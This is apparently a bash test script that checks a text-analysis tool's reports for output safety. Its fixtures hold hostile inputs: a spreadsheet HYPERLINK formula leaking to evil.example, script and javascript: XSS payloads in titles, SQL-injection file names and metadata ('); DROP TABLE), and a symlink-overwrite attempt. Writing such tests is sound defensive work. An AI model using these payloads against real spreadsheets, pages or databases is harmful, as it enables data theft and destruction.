#!/usr/bin/env bash
# Output safety against hostile essays, manifests and metadata (README
# "Output safety"): spreadsheet formulas neutralised in every CSV, Markdown
# escaped, nothing written outside the output folder, SQL that a document
# path or a metadata value cannot change.  TAP output.
#   test-safety.sh LEITMOTIF SRCDIR
set -uo pipefail
lm=$1
src=$2
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
cd "$src" || exit 1
. tests/tap.sh
has () { grep -qF -- "$2" "$1"; }
hasnt () { ! grep -qF -- "$2" "$1"; }
q () { sqlite3 -batch -noheader "$1" "$2"; }

# --- leitmotif analyze over a hostile manifest and essay ----------------------
mkdir -p "$work/corpus"
cat > "$work/corpus/corpus.ini" <<'INI'
[text evil]
file=evil.txt
critic==HYPERLINK("http://evil.example/?leak","click")
outlet=@SUM(1+1)
title=<script>alert(1)</script> [x](javascript:alert(2)) ![t](http://evil.example/t.png)
INI
cat > "$work/corpus/evil.txt" <<'TXT'
An essay.

=SUM(A1:A9)*cmd calls Never Let Me Go a dystopia.

+critics say it is science fiction, and <img src=x onerror=alert(3)> is a love story.

-what @mention called a dystopia.
TXT
mkdir -p "$work/out"
"$lm" analyze --corpus "$work/corpus/corpus.ini" --out "$work/out" >"$work/analyze.log" 2>&1; rc=$?
check "analyze of a hostile manifest and essay exits 0" test "$rc" = 0
check "the output folder holds the reports and nothing else" \
  test "$(cd "$work/out" && ls -A | tr '\n' ' ')" = "charts cooccurrence.csv dispersion.csv emphasis.csv genres.csv index.html keyness.csv kwic.csv motifs.csv passages.csv report.json similarity.csv summary.md "
check "charts/ holds the three charts and nothing else" \
  test "$(cd "$work/out/charts" && ls -A | tr '\n' ' ')" = "dispersion.svg heatmap.svg similarity.svg "
# The comparison files carry signed statistics: a cell that is a negative
# number is a number; any other cell must not start with = + - @.
for f in emphasis keyness dispersion cooccurrence passages kwic similarity; do
  check "$f.csv: no text cell starts with = + - @ (outside quotes)" \
    bash -c "! grep -qE '(^|,)([=+@]|-[^0-9])' '$work/out/$f.csv'"
done
check "emphasis.csv: the formula critic name is neutralised" has "$work/out/emphasis.csv" "\"'=HYPERLINK("
check "nothing else was written beside the output folder" \
  test "$(cd "$work" && ls -A | tr '\n' ' ')" = "analyze.log corpus out "
check "motifs.csv: a critic name that is a formula starts with ' inside quotes" \
  has "$work/out/motifs.csv" "evil,\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"click\"\")\",critic,"
check "motifs.csv: no cell starts with = + - @ (outside quotes)" \
  bash -c "! grep -qE '(^|,)[=+@-]' '$work/out/motifs.csv'"
check "genres.csv: evidence starting with = is neutralised" has "$work/out/genres.csv" "\"'=SUM(A1:A9)*cmd calls"
check "genres.csv: evidence starting with + is neutralised" has "$work/out/genres.csv" "\"'+critics say"
check "genres.csv: evidence starting with - is neutralised" has "$work/out/genres.csv" "\"'-what @mention"
check "genres.csv: no cell starts with = + - @ (outside quotes)" \
  bash -c "! grep -qE '(^|,)[=+@-]' '$work/out/genres.csv'"
check "summary.md: HTML in a title is escaped" has "$work/out/summary.md" '\<script\>alert(1)\</script\>'
check "summary.md: no raw <script> or <img" \
  bash -c "! grep -qE '(^|[^\\\\])<(script|img)' '$work/out/summary.md'"
check "summary.md: a link in a title is escaped" has "$work/out/summary.md" '\[x\](javascript:alert(2))'
check "summary.md: an image in a title is escaped" has "$work/out/summary.md" '!\[t\](http://evil.example/t.png)'
# The report's own links (the charts, index.html) are the only ones allowed.
check "summary.md: no unescaped link or image" \
  bash -c "grep -vE '^!\\[[A-Za-z ,()0-9-]+\\]\\(charts/[a-z]+\\.svg\\)\$|\\[index\\.html\\]\\(index\\.html\\)' '$work/out/summary.md' | { ! grep -qE '(^|[^\\\\])\\[[^]]*[^\\\\]\\]\\('; }"
check "report.json is valid JSON holding the title verbatim" \
  bash -c "grep -qF '\"title\" : \"<script>alert(1)</script>' '$work/out/report.json' || grep -qF '<script>alert(1)</script>' '$work/out/report.json'"

# A report name that is a symbolic link to a file outside is replaced, not
# written through (g_file_set_contents renames a new file over it).
mkdir -p "$work/linked"
echo "not a report" > "$work/victim.txt"
ln -s "$work/victim.txt" "$work/linked/motifs.csv"
"$lm" analyze --out "$work/linked" >/dev/null 2>&1; rc=$?
check "analyze into a folder whose motifs.csv links outside exits 0" test "$rc" = 0
check "the file the link pointed to is untouched" test "$(cat "$work/victim.txt")" = "not a report"
check "motifs.csv is now a regular file in the folder" test -f "$work/linked/motifs.csv" -a ! -L "$work/linked/motifs.csv"

# --- batch, export, report: SQL and CSV ------------------------------------------
root="$work/=evil"
mkdir -p "$root"
cp texts/carden-smoky-mountain-news-review.txt "$root/'); DROP TABLE documents;--.txt"
cp texts/never-let-me-go-themes-study-notes.txt "$root/plain.txt"
printf 'file,critic,note\n"=evil/'"'"'); DROP TABLE documents;--.txt","Robert'"'"'); DROP TABLE metadata;--","=1+1"\nplain.txt,@someone,-3\n' > "$work/meta.csv"
"$lm" batch --quiet --db "$work/b.db" --metadata "$work/meta.csv" "$root" >"$work/batch.log" 2>&1; rc=$?
check "batch over a file named '); DROP TABLE documents;-- exits 0" test "$rc" = 0
check "every table is still there" \
  test "$(q "$work/b.db" "SELECT group_concat(name, ' ') FROM (SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name)")" \
  = "categories documents genre_mentions meta metadata motif_counts"
check "the path is stored verbatim, as data" \
  test "$(q "$work/b.db" "SELECT count(*) FROM documents WHERE path = '=evil/''); DROP TABLE documents;--.txt' AND status = 'ok'")" = 1
check "the metadata value that looks like SQL is stored verbatim" \
  test "$(q "$work/b.db" "SELECT value FROM metadata WHERE key = 'critic' AND value LIKE 'Robert%'")" = "Robert'); DROP TABLE metadata;--"
"$lm" export --db "$work/b.db" --table documents > "$work/documents.csv"; rc=$?
check "export documents" test "$rc" = 0
check "export: a path that starts with = is neutralised" has "$work/documents.csv" "\"'=evil/'); DROP TABLE documents;--.txt\""
check "export: numbers are written as numbers" \
  bash -c "grep -qE '^[0-9]+,\"'\"'\"'=evil/plain.txt\",[0-9a-f]{64},[0-9]+,ok,,[0-9]+,' '$work/documents.csv'"
"$lm" export --db "$work/b.db" --table metadata > "$work/metadata.csv"
check "export metadata: =1+1 neutralised" has "$work/metadata.csv" ",\"'=1+1\""
check "export metadata: @someone neutralised" has "$work/metadata.csv" ",\"'@someone\""
check "export metadata: -3, a number, left alone" has "$work/metadata.csv" ",-3"
"$lm" report --db "$work/b.db" --out "$work/breport" >"$work/report.log" 2>&1; rc=$?
check "report over the batch exits 0" test "$rc" = 0
check "batch-documents.csv: the path neutralised" has "$work/breport/batch-documents.csv" "\"'=evil/'); DROP TABLE documents;--.txt\""
for f in batch-documents.csv batch-motifs.csv batch-genres.csv; do
  check "$f: no cell starts with = + - @ (outside quotes)" bash -c "! grep -qE '(^|,)[=+@-]' '$work/breport/$f'"
done
check "the batch report folder holds its files only" \
  test "$(cd "$work/breport" && ls -A | tr '\n' ' ')" = "batch-documents.csv batch-genre-tests.csv batch-genres.csv batch-group-emphasis.csv batch-group-genres.csv batch-group-keywords.csv batch-group-motifs.csv batch-groups.csv batch-motifs.csv batch-spread.csv batch-summary.md batch-top-essays.csv batch-top-evidence.csv index.html "

tap_done
